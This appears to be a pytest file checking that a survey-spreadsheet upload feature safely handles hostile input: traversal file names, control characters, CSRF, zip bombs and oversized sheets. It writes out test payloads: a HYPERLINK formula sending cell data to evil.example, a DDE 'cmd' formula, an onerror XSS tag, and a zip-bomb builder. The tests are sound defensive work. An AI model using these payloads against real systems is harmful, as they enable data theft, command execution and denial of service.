"""The upload attacked as a careless user or an attacker would: malformed requests, hostile names, junk spreadsheets,
formulas. Each gets a clear answer (never a 500) and nothing is saved."""
from __future__ import annotations

import io
import re
import zipfile

import pytest
import sqlalchemy as sa

from capacity.assessments.models import Assessment
from capacity.audit.models import AuditEvent
from capacity.extensions import db
from capacity.submissions.models import PendingImport
from tests.submissions import kobo
from tests.submissions.conftest import FULL, SHORT, stored
from tests.submissions.test_web import english, token_of, upload


def nothing_saved(app) -> None:
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Assessment.id))) == 0
        assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id)).where(
            AuditEvent.action != "auth.login")) == 0


def pending_count(app) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count(PendingImport.id)))


def test_a_post_without_the_file_field_shows_the_form_again(app, client, world):
    english(client, world["manager"])
    response = client.post("/rounds/kobo/submissions", data={"track": "self"}, content_type="multipart/form-data")
    assert response.status_code == 400 and "Choose a file to upload." in response.get_data(as_text=True)
    response = client.post("/rounds/kobo/submissions", data={"track": "self", "file": "not a file"})
    assert response.status_code == 400 and "Choose a file to upload." in response.get_data(as_text=True)
    nothing_saved(app)


def test_two_file_fields_check_the_first_and_only_it(app, client, world):
    english(client, world["manager"])
    q = world["questionnaire"]
    first = kobo.xlsx(kobo.rows(q, [("ORG-A", SHORT)]))
    second = kobo.xlsx(kobo.rows(q, [("ORG-B", FULL)]))
    response = client.post("/rounds/kobo/submissions", content_type="multipart/form-data", data={
        "track": "self", "file": [(io.BytesIO(first), "first.xlsx"), (io.BytesIO(second), "second.xlsx")]})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "first.xlsx" in page and "second.xlsx" not in page
    client.post("/rounds/kobo/submissions/import", data={"token": token_of(page)})
    assert stored(app, "ORG-A", "kobo", "self") and stored(app, "ORG-B", "kobo", "self") == {}


@pytest.mark.parametrize("sent, shown", [
    ("x" * 5000 + ".xlsx", "x" * 114 + "….xlsx"),
    ("../../../etc/kobo.xlsx", "kobo.xlsx"),
    ("C:\\Users\\nino\\Desktop\\kobo.xlsx", "kobo.xlsx"),  # the test client's multipart drops the backslashes
    ("ko\x00bo\t.xlsx", None),  # a NUL breaks the part's header: no file arrives
    ("შეფასება მაისი.xlsx", "შეფასება მაისი.xlsx"),
    ("<b>bold</b>.xlsx", "b&gt;.xlsx"),  # the name after the last slash, escaped
    ("", None),  # a browser sends no name only when no file was chosen
])
def test_hostile_file_names_are_shown_and_audited_harmlessly(app, client, world, sent, shown):
    english(client, world["manager"])
    data = kobo.xlsx(kobo.rows(world["questionnaire"], [("ORG-A", SHORT)]))
    response = client.post("/rounds/kobo/submissions", data={"track": "self", "file": (io.BytesIO(data), sent)},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    if shown is None:  # refused as a bad request or with the form: never a server error, nothing kept
        assert response.status_code == 400 and pending_count(app) == 0
        return
    assert response.status_code == 200 and shown in page
    assert "<b>" not in page and "\x00" not in page
    response = client.post("/rounds/kobo/submissions/import", data={"token": token_of(page)})
    assert response.status_code == 200, response.get_data(as_text=True)
    with app.app_context():
        event = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "submissions.import"))
        name = event.after["file"]
        assert len(name) <= 120 and "/" not in name and "\\" not in name and "\x00" not in name
        assert name.endswith(shown.replace("&gt;", ">"))


@pytest.mark.parametrize("track", ["consensus", "admin", "", "self\x00", "x" * 10000])
def test_a_track_not_offered_is_refused_with_the_form(app, client, world, track):
    english(client, world["manager"])
    data = kobo.xlsx(kobo.rows(world["questionnaire"], [("ORG-A", SHORT)]))
    response = upload(client, "kobo", data, track=track)
    assert response.status_code == 400  # with the form ("Not a valid choice"), or as a bad request (a NUL)
    assert pending_count(app) == 0
    nothing_saved(app)


def test_without_the_csrf_token_nothing_is_checked_kept_or_imported(app, client, world):
    english(client, world["manager"])
    data = kobo.xlsx(kobo.rows(world["questionnaire"], [("ORG-A", SHORT)]))
    token = token_of(upload(client, "kobo", data).get_data(as_text=True))
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        assert upload(client, "kobo", data).status_code == 400
        assert client.post("/rounds/kobo/submissions/import", data={"token": token}).status_code == 400
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    assert pending_count(app) == 1  # only the upload checked before
    assert stored(app, "ORG-A", "kobo", "self") == {}


def test_get_on_the_import_address_leads_back_to_the_upload_page(app, client, world):
    """The language switch (and a reload after the import) come back to the import's address by GET."""
    english(client, world["manager"])
    response = client.get("/rounds/kobo/submissions/import")
    assert response.status_code == 302 and response.headers["Location"].endswith("/rounds/kobo/submissions")
    response = client.post("/language", data={"language": "ka", "next": "/rounds/kobo/submissions/import"})
    assert client.get(response.headers["Location"], follow_redirects=True).status_code == 200


def test_a_csv_of_100000_columns_or_endless_lines_is_refused_plainly(app, client, world):
    english(client, world["manager"])
    # (Under 500 KB each: the test client leaves a larger request body's temporary file open.)
    wide = ("capacity_organisation;" + ";".join(["x"] * 100_000) + "\r\nORG-A;3\r\n").encode()
    page = upload(client, "kobo", wide, filename="wide.csv").get_data(as_text=True)
    assert "more than 2000 columns" in page
    long_line = b"capacity_organisation;SRV/SRV.4\r\nORG-A;" + b"A" * 400_000 + b"\r\n"
    response = upload(client, "kobo", long_line, filename="long.csv")
    assert response.status_code in (200, 400) and "Line 2" in response.get_data(as_text=True)
    no_breaks = b"capacity_organisation;" + b"x;" * 200_000
    response = upload(client, "kobo", no_breaks, filename="flat.csv")
    assert response.status_code in (200, 400) and "columns" in response.get_data(as_text=True)
    nothing_saved(app)


def _xlsx_with(data: bytes, replace: dict[str, bytes | None]) -> bytes:
    """``data`` (an XLSX) with some of its parts replaced (None: left out)."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    target.writestr(info.filename, replace[info.filename])
            else:
                target.writestr(info, source.read(info.filename))
        for name, content in replace.items():
            if name not in source.namelist() and content is not None:
                target.writestr(name, content)
    return out.getvalue()


def _bomb(world, padding: int) -> bytes:
    """A real submissions sheet padded with ``padding`` bytes of spaces: tiny packed, huge unpacked."""
    good = kobo.xlsx(kobo.rows(world["questionnaire"], [("ORG-A", SHORT)]))
    sheet = zipfile.ZipFile(io.BytesIO(good)).read("xl/worksheets/sheet1.xml")
    padded = sheet.replace(b"</worksheet>", b" " * padding + b"</worksheet>")
    return _xlsx_with(good, {"xl/worksheets/sheet1.xml": padded})


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(app, client, world):
    english(client, world["manager"])
    bomb = _bomb(world, 300_000_000)
    assert len(bomb) < 1_000_000
    page = upload(client, "kobo", bomb, filename="bomb.xlsx").get_data(as_text=True)
    assert "unpacks to far more data" in page
    # The same bomb declaring a small size in its directory: unpacking stops at the size declared, and the sheet
    # cut there is damaged.
    lying = bytearray(bomb)
    start = lying.rfind(b"PK\x01\x02", 0, lying.rfind(b"xl/worksheets/sheet1.xml"))
    lying[start + 24:start + 28] = (1000).to_bytes(4, "little")  # its uncompressed size, in the central directory
    response = upload(client, "kobo", bytes(lying), filename="lying.xlsx")
    assert response.status_code in (200, 400)
    assert re.search("damaged|far more data", response.get_data(as_text=True))
    assert pending_count(app) == 0
    nothing_saved(app)


def test_an_xlsx_whose_shared_strings_are_missing_is_refused_as_damaged(app, client, world):
    english(client, world["manager"])
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet()
    for n, row in enumerate(kobo.rows(world["questionnaire"], [("ORG-A", SHORT)])):
        sheet.write_row(n, 0, row)
    workbook.close()
    assert "xl/sharedStrings.xml" in zipfile.ZipFile(io.BytesIO(buffer.getvalue())).namelist()
    broken = _xlsx_with(buffer.getvalue(), {"xl/sharedStrings.xml": None})
    response = upload(client, "kobo", broken, filename="broken.xlsx")
    assert response.status_code in (200, 400)
    assert re.search("damaged|cannot be read", response.get_data(as_text=True))
    assert pending_count(app) == 0
    nothing_saved(app)


FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Click me")'


def test_formulas_in_cells_are_inert_text_on_the_report_page(app, client, world):
    english(client, world["manager"])
    q = world["questionnaire"]
    table = kobo.rows(q, [("ORG-A", dict(SHORT, **{"GOV.1": FORMULA}))])
    table[0].append("=cmd|' /C calc'!A0")
    table[1].append("x")
    page = upload(client, "kobo", kobo.csv_bytes(table), filename="formula.csv").get_data(as_text=True)
    assert "The file cannot be imported" in page
    assert 'href="http://evil' not in page and "&#34;http://evil" in page or "&quot;http://evil" in page
    assert "=cmd|&#39; /C calc&#39;!A0" in page or "=cmd|' /C calc'!A0" in page  # shown as the text it is
    nothing_saved(app)


def test_an_xlsx_formula_cell_is_read_as_its_value_never_evaluated(app, world):
    """A formula cell in the spreadsheet counts as the value last saved with it (Kobo writes none)."""
    import openpyxl

    from capacity.submissions.reading import read_table

    workbook = openpyxl.Workbook()
    rows = kobo.rows(world["questionnaire"], [("ORG-A", SHORT)])
    for row in rows:
        workbook.active.append(row)
    column = rows[0].index("GOV/GOV.A/GOV.1") + 1
    workbook.active.cell(row=2, column=column, value="=1+2")
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = read_table(buffer.getvalue())
    assert table.rows[0][1][column - 1] == ""  # no value saved with the formula: an empty cell, not 3


@pytest.mark.parametrize("sent, kept", [
    ("C:\\Users\\nino\\Desktop\\kobo.xlsx", "kobo.xlsx"), ("/tmp/../kobo.csv", "kobo.csv"), ("a\x00b\x1b[2J.csv", "a b [2J.csv"),
    ("  ..hidden.xlsx. ", "hidden.xlsx"), ("...", "submissions"), (None, "submissions"),
    ("ა" * 300 + ".xlsx", "ა" * 114 + "….xlsx"), ("x" * 200, "x" * 118 + "…"),
])
def test_upload_names_lose_folders_and_control_characters(sent, kept):
    from capacity.submissions.services import upload_name

    assert upload_name(sent) == kept and len(upload_name(sent)) <= 120


def test_a_formula_typed_as_a_text_answer_is_kept_as_typed_and_exported_inert(app, client, world):
    """Kobo writes what the person typed: stored as that text; the round's exports never make it a formula."""
    import csv

    import openpyxl

    english(client, world["manager"])
    table = kobo.rows(world["questionnaire"], [("ORG-A", dict(FULL, **{"SRV.4": FORMULA}))])
    page = upload(client, "kobo", kobo.csv_bytes(table), filename="formula.csv").get_data(as_text=True)
    assert "1 answer" in page or "10 answers will be imported" in page
    client.post("/rounds/kobo/submissions/import", data={"token": token_of(page)})
    assert stored(app, "ORG-A", "kobo", "self")["SRV.4"][1] == FORMULA
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/rounds/kobo/export.xlsx").data))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == FORMULA for c in cells)  # text cells, never formulas
    archive = zipfile.ZipFile(io.BytesIO(client.get("/rounds/kobo/export.zip").data))
    texts = [value for name in archive.namelist()
             for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))) for value in row
             if "HYPERLINK" in value]
    assert texts and all(value == "'" + FORMULA for value in texts)


def _one_wide_row(cells: int) -> bytes:
    """A small XLSX whose second row holds ``cells`` cells: a few MB packed, minutes and gigabytes to read."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["capacity_organisation", "GOV/GOV.A/GOV.1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")
    row = b'<row r="2">' + b"<c><v>1</v></c>" * cells + b"</row>"
    return _xlsx_with(buffer.getvalue(), {"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", row + b"</sheetData>")})


def test_a_spreadsheet_row_of_millions_of_cells_is_refused_before_it_is_read(app, client, world, monkeypatch):
    from capacity.submissions import reading

    english(client, world["manager"])
    bomb = _one_wide_row(3_000_000)
    assert len(bomb) < 500_000
    page = upload(client, "kobo", bomb, filename="wide.xlsx").get_data(as_text=True)
    assert "more than 2000 columns" in page
    monkeypatch.setattr(reading, "MAX_CELLS", 1500)  # many narrow rows: the total counts
    table = kobo.rows(world["questionnaire"], [(org, SHORT) for org in ("ORG-A", "ORG-B", "ORG-C")] * 30)
    page = upload(client, "kobo", kobo.xlsx(table), filename="many.xlsx").get_data(as_text=True)
    assert "more than 1500 cells" in page
    nothing_saved(app)


def test_a_huge_text_in_a_spreadsheet_or_endless_empty_lines_are_refused_plainly(app, client, world):
    english(client, world["manager"])
    table = kobo.rows(world["questionnaire"], [("ORG-A", dict(SHORT, **{"SRV.4": "x" * 2_000_000}))])
    page = upload(client, "kobo", kobo.xlsx(table), filename="text.xlsx").get_data(as_text=True)
    assert "more than 10000 characters" in page
    page = upload(client, "kobo", b"capacity_organisation;GOV.1\n" + b"\n" * 400_000, filename="empty.csv") \
        .get_data(as_text=True)
    assert "more than 5000 rows" in page
    nothing_saved(app)


XSS = '<img src=x onerror="alert(1)">'


@pytest.mark.parametrize("language", ["en", "ka"])
def test_markup_in_a_file_is_shown_as_text_wherever_the_report_repeats_it(app, client, world, language):
    english(client, world["manager"])
    client.post("/language", data={"language": language, "next": "/"})
    table = kobo.rows(world["questionnaire"], [("ORG-A", dict(SHORT, **{"GOV.1": XSS})), (XSS, SHORT),
                                               ("ORG-B", SHORT), ("ORG-B", SHORT)])
    table[0].append(XSS + "/col")
    for row in table[1:]:
        row.append("x")
    page = upload(client, "kobo", kobo.csv_bytes(table), filename=XSS + ".csv").get_data(as_text=True)
    assert "<img" not in page and "onerror=\"alert" not in page
    # The value, the unknown code, the column, the file name: each as text (a Georgian page marks "img" as English).
    assert page.count("&lt;") >= 4
